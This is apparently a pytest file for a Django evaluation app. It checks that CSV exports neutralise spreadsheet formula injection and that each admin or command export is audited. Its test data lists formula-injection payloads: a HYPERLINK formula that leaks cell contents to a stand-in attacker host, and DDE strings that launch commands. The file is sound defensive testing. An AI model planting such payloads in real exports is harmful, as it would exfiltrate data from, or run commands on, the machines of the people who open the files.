"""Exports that cannot attack the reader, and who exported what (issue 15 §3): CSV cells that a
spreadsheet would run as a formula are neutralised; every export (admin action or command) is
audited with who, which filter and how many rows."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from ari_review.models import AuditEvent
from evaluation import exports
from evaluation.models import SeedDialogue, WorkItem
from evaluation.services import safety_label_create
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def labelled(text: str, clinician) -> WorkItem:
    item = factories.LabelItemFactory(kind=WorkItem.Kind.SAFETY, text=text)
    safety_label_create(item=item, clinician=clinician, risk_level="low", urgency="low")
    return item


def csv_rows(content: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    assert exports.csv_cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["I feel low", "", "1+1=2", " =not first", 42, None, True])
def test_other_cells_are_written_as_they_are(value):
    assert exports.csv_cell_safe(value) == value


def test_labels_csv_neutralises_formulas_in_message_text(clinician):
    for text in FORMULAS:
        labelled(text, clinician)
    labelled("An ordinary message.", clinician)
    out = io.StringIO()
    assert exports.labels_export_csv(out, kind="safety") == len(FORMULAS) + 1
    rows = csv_rows(out.getvalue())
    texts = [row["text"] for row in rows]
    assert texts[-1] == "An ordinary message."
    for text in texts[:-1]:
        assert text.startswith("'")
    # No cell of the file starts with a character a spreadsheet would evaluate.
    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert not cell.startswith(exports.CSV_FORMULA_STARTS), cell


def test_admin_csv_export_is_neutralised_and_audited(client, admin_user, clinician):
    items = [labelled(FORMULAS[0], clinician), labelled("Fine.", clinician)]
    labelled("Not selected.", clinician)
    client.force_login(admin_user)
    url = reverse("admin:evaluation_workitem_changelist") + "?kind__exact=safety"
    response = client.post(
        url, {"action": "export_safety_csv", "_selected_action": [i.pk for i in items]}
    )
    assert response.status_code == 200
    rows = csv_rows(response.content.decode())
    # Masked (the URL) as every export is, and written as text.
    assert [row["text"] for row in rows] == [
        """'=HYPERLINK("[url]"&A1,"Click for details")""",
        "Fine.",
    ]
    event = AuditEvent.objects.get(action="export.safety_labels")
    assert event.actor == admin_user and event.actor_name == admin_user.username
    assert event.object_type == "evaluation.export"
    assert event.after == {
        "format": "csv",
        "rows": 2,
        "filters": {
            "changelist": {"kind__exact": "safety"},
            "select_across": False,
            "selected": 2,
            "ids": sorted(i.pk for i in items),
        },
        "via": "admin:export_safety_csv",
    }


@pytest.mark.parametrize(
    ("model", "action", "expected"),
    [
        (SeedDialogue, "export_openai_jsonl", "export.dialogues"),
        (SeedDialogue, "export_seed_json", "export.dialogues"),
        (WorkItem, "export_safety_jsonl", "export.safety_labels"),
        (WorkItem, "export_intent_jsonl", "export.intent_labels"),
        (WorkItem, "export_intent_csv", "export.intent_labels"),
        (WorkItem, "export_preferences_jsonl", "export.preferences"),
    ],
)
def test_every_admin_export_action_is_audited(client, admin_user, model, action, expected):
    factories.SeedDialogueFactory(state=SeedDialogue.State.APPROVED)
    factories.PreferenceItemFactory()
    client.force_login(admin_user)
    ids = list(model.objects.values_list("pk", flat=True))
    changelist = reverse(f"admin:evaluation_{model._meta.model_name}_changelist")
    response = client.post(changelist, {"action": action, "_selected_action": ids})
    assert response.status_code == 200
    event = AuditEvent.objects.get(action=expected)
    assert event.actor == admin_user
    assert event.after["filters"]["ids"] == sorted(ids)
    assert event.after["via"] == f"admin:{action}"
    assert isinstance(event.after["rows"], int)


def test_export_commands_are_audited_with_their_filter_and_row_count(tmp_path, clinician):
    labelled(FORMULAS[1], clinician)
    labelled("Fine.", clinician)
    factories.SeedDialogueFactory(state=SeedDialogue.State.APPROVED)
    factories.SeedDialogueFactory(state=SeedDialogue.State.DRAFT)
    out = tmp_path / "labels.csv"
    call_command("export_labels", kind="safety", format="csv", output=str(out))
    assert csv_rows(out.read_text())[0]["text"] == "'" + FORMULAS[1]
    call_command("export_dialogues", format="seed", state="draft", output=str(tmp_path / "d.json"))
    call_command("export_preferences", output=str(tmp_path / "p.jsonl"))
    events = {e.action: e for e in AuditEvent.objects.filter(action__startswith="export.")}
    assert set(events) == {"export.safety_labels", "export.dialogues", "export.preferences"}
    labels = events["export.safety_labels"]
    assert labels.actor is None and labels.actor_name == "system"
    assert labels.after["rows"] == 2 and labels.after["format"] == "csv"
    assert labels.after["filters"] == {"output": str(out)}
    assert labels.after["via"].startswith("command:export_labels (os user ")
    dialogues = events["export.dialogues"]
    assert dialogues.after["rows"] == 1 and dialogues.after["filters"]["state"] == "draft"
    assert events["export.preferences"].after["rows"] == 0
